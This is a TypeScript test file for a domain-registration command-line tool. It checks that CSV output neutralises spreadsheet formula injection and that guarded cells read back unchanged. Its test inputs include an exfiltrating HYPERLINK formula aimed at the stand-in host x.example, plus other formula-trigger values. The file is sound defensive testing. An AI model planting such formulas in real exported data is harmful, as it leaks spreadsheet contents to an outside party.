import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { guardCell, unguardCell } from '../../src/core/spreadsheet-cell.ts';
import { safeText } from '../../src/core/text.ts';
import { csvLine } from '../../src/output/csv.ts';
import { herat, lists } from '../support/domains.ts';
import { balanceData, credentials, service } from '../support/fixtures.ts';
import { temporaryFolder } from '../support/home.ts';
import { dotaf } from '../support/session.ts';

describe('a cell that a spreadsheet would run', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+93 70', "'+93 70"],
    ['-x.af', "'-x.af"],
    ['-1+cmd', "'-1+cmd"],
    ['--5', "'--5"],
    ['@SUM(1)', "'@SUM(1)"],
    [' =1', "' =1"],
    ['\u00a0\u3000=1', "'\u00a0\u3000=1"],
    ['"=1', '\'"=1'],
    ["'=1", "''=1"],
    ['" @x', '\'" @x'],
    ['＝1', "'＝1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠x', "'＠x"],
  ])('%j becomes text', (cell, guarded) => {
    expect(guardCell(cell)).toBe(guarded);
    expect(unguardCell(guarded)).toBe(cell);
  });

  it.each([
    ...['', '12.00', '-12.00', '-5', '2027-01-01', 'kabul.af', 'xn--mgbc8fxs.af', 'true'],
    ...["o'clock", "'quoted'", '{"a":"=1"}', 'a=1', 'ns1.host.example ns2.host.example'],
  ])('is not %j, which stays as it is', (cell) => {
    expect(guardCell(cell)).toBe(cell);
    expect(unguardCell(cell)).toBe(cell);
  });

  const text = fc.string({
    unit: fc.constantFrom(...'=+-@＝＋－＠ "\'\t\r\n,;\u00a0\u200b09.ax'),
    maxLength: 8,
  });

  it('is none in any line, and every text is read back', () => {
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (cells) => {
        const record = Object.fromEntries(cells.map((cell, index) => [`f${index}`, cell]));
        const [read = []]: string[][] = parse(csvLine(record, Object.keys(record)), {
          skip_empty_lines: false,
        });
        const run = read.filter((cell) => /^[\s"'`]*[=+@＝＋－＠-]/u.test(cell));
        for (const cell of run) expect(cell).toMatch(/^'|^-?\d+(\.\d+)?$/);
        expect(read.map(unguardCell)).toEqual(cells.map(safeText));
      }),
    );
  });
});

const hostile = '=HYPERLINK("http://x.example/?"&A1;"paid")';

it('is text in --csv, in a header, and where rows have failed; money stays a number', async () => {
  const extra = { note: hostile, '@x': ' +1' };
  service()
    .get('/api/v1/account/balance')
    .reply(200, { success: true, data: { ...balanceData, balance: '-12.00', ...extra } });
  const fields = 'balance,extra.note,extra.@x';
  expect((await dotaf(['balance', '--csv', '--fields', fields])).stdout).toBe(
    `balance,extra.note,extra.@x\n-12.00,"'${hostile.replaceAll('"', '""')}",' +1\n`,
  );
  const rows = await dotaf(['check', '-', '--csv', '--fields', 'domain'], {
    stdin: '=1.af\n+2.af\n',
  });
  expect(rows.stdout).toMatch(/^domain\n'=1.af\n'\+2.af\n$/);
});

it('comes back as it was in domains compare', async () => {
  const domain = { ...herat, status: '@SUM(1)' };
  lists([domain]);
  lists([domain]);
  const { stdout } = await dotaf(['domains', 'ls', '--csv']);
  expect(stdout).toContain(",'@SUM(1),");
  const file = path.join(temporaryFolder(), 'list.csv');
  writeFileSync(file, stdout);
  const argv = ['domains', 'compare', file, '--expect', 'none'];
  expect(await dotaf(argv)).toMatchObject({ stdout: '', code: 0 });
});

it('comes back as it was in a file of check, which --resume reads', async () => {
  service()
    .persist()
    .post('/api/v1/domains/check')
    .reply(async (request: Request) => {
      const { domain } = JSON.parse(await request.text());
      const pricing = { amount: '12.00', currency: '=USD' };
      return [
        200,
        { success: true, data: { domain, status: '＝taken', available: false, pricing } },
      ];
    });
  const env = { ...credentials, DOTAF_HOME: temporaryFolder() };
  const file = path.join(temporaryFolder(), 'answers.csv');
  const argv = ['check', '-', '--out', file];
  await dotaf(argv, { env, stdin: 'a.af\n-x.af\n@b.af\n' });
  const rows = readFileSync(file, 'utf8').split('\n');
  expect(rows[1]).toBe("a.af,'＝taken,false,12.00,'=USD,1,,");
  expect(rows[2]).toMatch(/^'-x\.af,,,,,,invalid_name,not a domain name: /);
  const more = { env, stdin: 'a.af\n-x.af\n@b.af\nc.af\n' };
  const { stdout, stderr } = await dotaf([...argv, '--resume', '--json'], more);
  expect(stderr).toContain('3 already in the file');
  expect(JSON.parse(stdout).domain).toBe('c.af');
});
